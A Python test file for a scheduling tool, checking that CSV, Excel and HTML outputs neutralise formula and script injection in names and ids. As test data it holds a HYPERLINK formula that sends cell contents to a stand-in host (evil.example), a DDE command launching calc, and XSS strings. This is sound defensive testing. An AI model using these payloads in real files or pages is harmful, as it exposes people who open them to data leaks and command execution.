"""Spreadsheet injection: names and ids that look like formulas stay text
(docs/outputs.md#safe-cells).

A cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a formula
(or DDE command) to Excel and LibreOffice when a CSV is opened. Every writer of a
CSV or Excel file (plan.csv, plan.xlsx, scenario tables and workbooks, the what-if
comparison) writes such values with a leading apostrophe; our readers take it off
again, so values round-trip unchanged. In the workbooks no cell is a formula at all,
and the HTML report escapes names (no script from a learner's name runs in a browser).
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scheduler.io import (
    load_scenario,
    plan_to_csv_text,
    read_plan_csv,
    safe_cell,
    unsafe_cell,
    write_scenario,
)
from scheduler.models import Plan, PlanRow, Scenario
from scheduler.models.result import SolveResult
from scheduler.plandir import OutputOptions, write_plan_dir
from tests import factories as f

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"klik hier")', "=cmd|' /C calc'!A0",
            "+31 6 12345678", "-2+3", "@SUM(A1:A9)", "=1+1", "\tTAB", "\rCR"]


def formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(DANGEROUS)


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_safe_csv(text: str) -> None:
    """No text cell starts like a formula (a number such as -2.5 is a number)."""
    bad = [c for c in csv_cells(text) if formula_like(c) and not is_number(c)]
    assert bad == [], bad


def assert_safe_workbook(path: Path) -> None:
    """No formula cell, no text cell a spreadsheet would read as one, no <f> in the XML."""
    book = openpyxl.load_workbook(path)  # formulas kept as formulas, not values
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not formula_like(cell.value), (sheet.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


# ----- the cell functions ---------------------------------------------------------------
TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=20)


@settings(max_examples=300, deadline=None)
@given(value=st.one_of(TEXT, st.sampled_from(DANGEROUS).flatmap(
    lambda d: TEXT.map(lambda t: d + t))))
def test_safe_cell_neutralises_and_unsafe_cell_restores(value: str) -> None:
    written = safe_cell(value)
    assert not formula_like(written)
    assert unsafe_cell(written) == value


def test_a_leading_apostrophe_round_trips() -> None:
    assert unsafe_cell(safe_cell("'=1+1")) == "'=1+1"


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None


# ----- plan.csv -------------------------------------------------------------------------
IDS = st.one_of(st.sampled_from(PAYLOADS[:6]), st.sampled_from(DANGEROUS[:4]).flatmap(
    lambda d: st.text("abcXYZ019-_ =+@\"',;", min_size=1, max_size=12).map(lambda t: d + t)),
).filter(lambda t: t == t.strip())  # ids are read stripped


@settings(max_examples=100, deadline=None)
@given(learner=IDS, org=IDS, dept=IDS, buddy=IDS)
def test_plan_csv_round_trips_formula_like_ids_as_text(learner: str, org: str, dept: str,
                                                       buddy: str) -> None:
    rows = [PlanRow.model_validate({"learner": learner, "month": m, "organisation": org,
                                    "department": dept, "buddy": buddy, "placement": 1,
                                    "status": "placed"}) for m in ("2027-09", "2027-10")]
    plan = Plan(rows=tuple(rows))
    text = plan_to_csv_text(plan)
    assert_safe_csv(text)
    path = Path(f"/tmp/plan-injection-{abs(hash((learner, org, dept, buddy)))}.csv")
    try:
        path.write_text(text)
        assert read_plan_csv(path) == plan
    finally:
        path.unlink(missing_ok=True)


# ----- scenario files and the plan directory ---------------------------------------------
def hostile_scenario() -> Scenario:
    """Every id and name a payload; references consistent, so it is a valid scenario."""
    data = f.world_dict(
        name="=cmd|' /C calc'!A0",
        organisations=[f.organisation("=ORG", "=VVT"),
                       f.organisation("+ORG", "@GGZ", lat=52.1, lon=6.1)],
        departments=[f.department("-D1", "=ORG"), f.department("@D2", "+ORG"),
                     f.department("=D3", "+ORG", "rotating")],
        buddies=[f.buddy("=b1", "-D1"), f.buddy("@b2", "@D2"), f.buddy("+b3", "=D3")],
        programmes=[f.programme("+p", required_sectors=["@GGZ"])],
        learners=[
            f.learner("-L1", home="=ORG", programme="+p", preferences=["@D2", "=ORG"],
                      name='=HYPERLINK("http://evil.example","klik")'),
            f.learner("@L2", home="+ORG", programme="+p", start="2027-11",
                      name="<img src=x onerror=alert(1)>"),
            f.learner("=L3", home="=ORG", programme="+p", name="+31 6 12345678"),
        ],
        pins=[{"learner": "-L1", "month": "2027-09", "department": "-D1", "buddy": "=b1"}],
    )
    data["organisations"][0]["name"] = "@Zorg <script>alert('x')</script>"
    return Scenario.model_validate(data)


def hostile_plan(scenario: Scenario, moved: bool = False) -> Plan:
    return f.build_plan(scenario, {"-L1": ["-D1", "@D2"], "@L2": ["@D2", "-D1"],
                                   "=L3": ["=D3", "-D1"] if moved else ["@D2", "=D3"]})


def test_scenario_writers_keep_formula_like_values_as_text(tmp_path: Path) -> None:
    scenario = hostile_scenario()
    write_scenario(scenario, tmp_path / "s.yaml", csv_tables=True)
    tables = sorted(tmp_path.glob("s-*.csv"))
    assert len(tables) == 6
    for table in tables:
        assert_safe_csv(table.read_text())
    assert load_scenario(tmp_path / "s.yaml") == scenario

    write_scenario(scenario, tmp_path / "s.xlsx")
    assert_safe_workbook(tmp_path / "s.xlsx")
    assert load_scenario(tmp_path / "s.xlsx") == scenario

    write_scenario(scenario, tmp_path / "inline.yaml")
    assert load_scenario(tmp_path / "inline.yaml") == scenario


@pytest.fixture(scope="module")
def plan_dirs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Two plan directories of the hostile scenario, written by the real writer (reports
    included, when the report package is there)."""
    folder = tmp_path_factory.mktemp("hostile")
    scenario = hostile_scenario()
    write_scenario(scenario, folder / "s.yaml")
    out = {}
    for label, moved in (("a", False), ("b", True)):
        plan = hostile_plan(scenario, moved)
        result = SolveResult(status="feasible", plan=plan, objective=0.0)
        options = OutputOptions(lang="en", scenario_file=str(folder / "s.yaml"))
        out[label] = folder / label
        write_plan_dir(out[label], scenario, result, output=options)
        write_scenario(scenario, out[label] / "scenario.yaml")
    return out


def test_plan_directory_files_are_injection_safe(plan_dirs: dict[str, Path]) -> None:
    folder = plan_dirs["a"]
    text = (folder / "plan.csv").read_text()
    assert_safe_csv(text)
    assert "'-L1" in text and "'@D2" in text  # the ids are there, neutralised
    rows = sorted(hostile_plan(hostile_scenario()).rows, key=lambda r: (r.learner, r.month))
    assert list(read_plan_csv(folder / "plan.csv").rows) == rows
    json.loads((folder / "kpis.json").read_text())
    for workbook in folder.glob("*.xlsx"):
        assert_safe_workbook(workbook)
    for page in folder.glob("*.html"):
        html = page.read_text()
        for raw in ("<img src=x onerror", "<script>alert"):
            assert raw not in html, (page.name, raw)


def test_comparison_files_are_injection_safe(plan_dirs: dict[str, Path], tmp_path: Path) -> None:
    compare = pytest.importorskip("scheduler.compare")
    dirs = [compare.read_plan_dir(plan_dirs[k], k) for k in ("a", "b")]
    comparison = compare.build_comparison(dirs, "en")
    compare.write_comparison(tmp_path, comparison)
    moves = (tmp_path / "moves.csv").read_text()
    assert "'=L3" in moves  # the learner who moved, by id, neutralised
    for table in tmp_path.glob("*.csv"):
        assert_safe_csv(table.read_text())
    for page in tmp_path.glob("*.html"):
        assert "<script>alert" not in page.read_text()
